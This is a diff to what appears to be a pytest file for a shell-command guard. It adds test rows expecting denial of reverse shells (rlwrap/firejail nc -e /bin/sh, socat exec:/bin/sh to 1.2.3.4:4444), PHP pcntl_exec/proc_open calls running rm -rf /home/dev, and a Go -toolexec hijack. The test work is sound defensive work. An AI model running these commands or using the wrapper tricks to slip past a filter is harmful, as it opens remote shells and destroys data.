@@ -32,7 +32,10 @@ commands.embedded_command_lines. (14) a system program linked, copied or moved t
 /bin/sh /tmp/s) is that program when the path is run later in it (./x -rf ~ is rm -rf ~), and so
 is git --exec-path=DIR x ARGS with DIR/git-x so linked (shell.program_links); (15) a start-up
 file under ~/.config is found under any XDG_CONFIG_HOME (DIR/tmux/tmux.conf written, then
-XDG_CONFIG_HOME=DIR tmux). Earlier rows changed, on purpose: round 32 benign32's
+XDG_CONFIG_HOME=DIR tmux). (16) netcat or socat among an unknown launcher's words (rlwrap nc HOST PORT -e /bin/sh,
+firejail nc ...) is read as if it ran, as a security program there already was; (17) go env -w
+GOFLAGS=-toolexec=X/-exec=X is read as go build -toolexec X; (18) PHP's pcntl_exec and
+proc_open given an argv list run it. Earlier rows changed, on purpose: round 32 benign32's
 `JAVA_TOOL_OPTIONS=-javaagent:x.jar jar tf a.jar` and `export JDK_JAVA_OPTIONS=-javaagent:x.jar &&
 javap Foo`, redteam32's `JAVA_TOOL_OPTIONS=-javaagent:/tmp/x.jar kotlin -version` read KKKDD (were
 KKADD): an agent in the JVM's environment options is round 29's preload-variable class (LD_PRELOAD,
@@ -223,6 +226,20 @@ LINKS = [
     ("mkdir -p /tmp/d/tmux && echo 'set -g mouse on' > /tmp/d/tmux/tmux.conf && XDG_CONFIG_HOME=/tmp/d tmux", 'KKKDD'),
 ]
 
+MORE = [
+    ('rlwrap nc 1.2.3.4 4444 -e /bin/sh', 'DDDDD'),
+    ('firejail nc 1.2.3.4 4444 -e /bin/sh', 'DDDDD'),
+    ('rlwrap socat tcp-connect:1.2.3.4:4444 exec:/bin/sh', 'DDDDD'),
+    ('rlwrap nc -lvnp 4444', 'KKADD'),
+    ('proxychains nc x 80', 'KKADD'),
+    ('go env -w GOFLAGS=-toolexec=sh', 'KKKDD'),
+    ('go env -w GOFLAGS=-toolexec=/tmp/x', 'KKADD'),
+    ('go env -w GOFLAGS=-mod=mod', 'KKADD'),
+    ("php -r 'pcntl_exec(\"/bin/rm\", [\"-rf\", \"/home/dev\"]);'", 'DDDDD'),
+    ("php -r 'proc_open([\"rm\", \"-rf\", \"/home/dev\"], [], $p);'", 'DDDDD'),
+    ("php -r 'pcntl_exec(\"/bin/ls\", [\"-la\"]);'", 'KKADD'),
+]
+
 # held: GTFOBins spellings that were already denied, kept as a guard (and the 0< rows, fixed)
 HELD = [
     ('nc 1.2.3.4 4444 0</tmp/p | sh', 'DDDDD'),
@@ -248,7 +265,7 @@ HELD = [
     ('nc -l -p 4444 -e /bin/sh', 'DDDDD'),
 ]
 
-ROWS = APT + DBUS + RUNNERS + VARIABLES + CONFIG_FILES + PIPE_NAMES + LINKS + HELD
+ROWS = APT + DBUS + RUNNERS + VARIABLES + CONFIG_FILES + PIPE_NAMES + LINKS + MORE + HELD
 
 
 @pytest.mark.parametrize("row", ROWS, ids=_id)
